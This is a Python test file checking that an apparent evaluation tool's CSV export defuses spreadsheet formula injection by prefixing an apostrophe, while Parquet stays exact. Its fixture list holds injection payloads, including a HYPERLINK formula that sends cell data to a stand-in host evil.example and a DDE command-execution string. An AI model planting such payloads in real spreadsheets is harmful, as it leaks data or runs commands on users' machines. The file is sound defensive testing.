"""CSV exports never hand a spreadsheet a formula: every text cell that one would run gets a leading
apostrophe (the value is otherwise unchanged); Parquet stays exact; list columns are JSON arrays in CSV."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.cli import main
from engine.store import Store
from engine.store.export import FORMULA_STARTS, neutralised_cell
from engine.types import Completion, GenerationParams, ModelInfo, Prompt, Verdict

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",  # a non-breaking space first
    "\uff1d1+1",  # full-width equals sign
    "\uff20SUM(A1)",
    "=",
    "-",
]
PLAIN = ["Paris.", "I'm sorry", "a = b", "1+1", "", "'already quoted", "émigré"]
STATIC = GenerationParams(max_new_tokens=4)
EXIT = GenerationParams(max_new_tokens=4, exit_policy="confidence", threshold=0.5, min_layers=1)


def dangerous(cell: str) -> bool:
    return bool(cell) and (cell[0] in FORMULA_STARTS or cell.lstrip()[:1] in FORMULA_STARTS)


def hostile_db(db_path: Path) -> dict[str, list]:
    """A database whose every free-text field starts like a formula: prompt texts, ids, categories,
    set and model names, completions, judge notes and raw outputs."""
    prompts = [
        Prompt(f"{formula}#{i}", f"{formula} prompt {i}", "harmful" if i % 2 else "benign", category=formula)
        for i, formula in enumerate(FORMULAS)
    ]
    completions = []
    with Store.open(db_path) as store:
        store.save_model(ModelInfo('=HYPERLINK("x")', "m1", "LlamaForCausalLM", 8, 64, "float32", "cpu"))
        store.save_prompt_set("=evil-set", prompts)
        for i, (prompt, formula) in enumerate(zip(prompts, FORMULAS, strict=True)):
            params = EXIT if i % 3 == 0 else STATIC
            exits = (1, 8, 3, 2)[: 1 + i % 4] if params is EXIT else ()
            completion = Completion(
                "m1", prompt.prompt_id, prompt.text, 8, params.key(), formula, tuple(range(4, 5 + i % 4)),
                0.1, exit_layers=exits,
            )  # fmt: skip
            store.save_generations([completion], params=params)
            store.save_verdicts([Verdict(completion.key, "keyword", "1", True, raw=formula, note=formula)])
            completions.append(completion)
    return {"prompts": prompts, "completions": completions}


def csv_cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_export_neutralises_every_formula_and_keeps_the_text(db_path, tmp_path):
    seeded = hostile_db(db_path)
    with Store.open(db_path, read_only=True) as store:
        out = store.export(tmp_path / "results.csv")
    rows = csv_cells(out)
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not dangerous(cell), (column, cell)
    by_key = {row["completion_key"]: row for row in rows}
    for completion, formula in zip(seeded["completions"], FORMULAS, strict=True):
        row = by_key[completion.key]
        for column in ("text", "raw", "note", "category"):
            assert row[column] == "'" + formula  # the apostrophe, then exactly the stored text
        assert row["prompt_text"] == "'" + completion.prompt_text
        assert row["prompt_id"] == "'" + completion.prompt_id
        assert row["prompt_set"] == "'=evil-set" and row["model_id"] == '\'=HYPERLINK("x")'
        assert row["layers"] == "8"  # numbers stay numbers


def test_parquet_export_is_exact(db_path, tmp_path):
    seeded = hostile_db(db_path)
    with Store.open(db_path, read_only=True) as store:
        frame = pd.read_parquet(store.export(tmp_path / "results.parquet")).set_index("completion_key")
    for completion, formula in zip(seeded["completions"], FORMULAS, strict=True):
        row = frame.loc[completion.key]
        assert (row["text"], row["raw"], row["note"], row["prompt_text"]) == (
            formula, formula, formula, completion.prompt_text,
        )  # fmt: skip
        assert [int(t) for t in row["token_ids"]] == list(completion.token_ids)
        stored_exits = row["exit_layers"]
        assert (list(stored_exits) if stored_exits is not None else []) == list(completion.exit_layers)


def test_csv_list_columns_are_json_arrays(db_path, tmp_path):
    seeded = hostile_db(db_path)
    out = tmp_path / "results.csv"
    assert main(["export", "--db", str(db_path), "--out", str(out)]) == 0
    by_key = {row["completion_key"]: row for row in csv_cells(out)}
    for completion in seeded["completions"]:
        row = by_key[completion.key]
        assert json.loads(row["token_ids"]) == list(completion.token_ids)
        if completion.exit_layers:
            assert json.loads(row["exit_layers"]) == list(completion.exit_layers)
        else:
            assert row["exit_layers"] == ""  # a static row has no per-token exits: an empty cell
    frame = pd.read_csv(out)  # pandas reads it back too
    assert len(frame) == len(FORMULAS)


def test_dashboard_csv_download_is_the_neutralised_export(db_path, monkeypatch):
    from pages import _store

    monkeypatch.setenv("DEPTHSCOPE_ALLOWED_PATHS", str(db_path.parent))

    hostile_db(db_path)
    data = _store.export_bytes(str(db_path), "csv").decode("utf-8")
    rows = list(csv.DictReader(data.splitlines()))
    assert rows and all(not dangerous(cell) for row in rows for cell in row.values())
    _store.open_store.clear()


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=12))
def test_neutralising_is_a_prefix_and_only_where_needed(text):
    cell = neutralised_cell(text)
    assert not dangerous(cell)
    assert cell == text if not dangerous(text) else cell == "'" + text


@pytest.mark.parametrize("value", [3, 2.5, None, True])
def test_non_text_cells_are_left_alone(value):
    assert neutralised_cell(value) is value
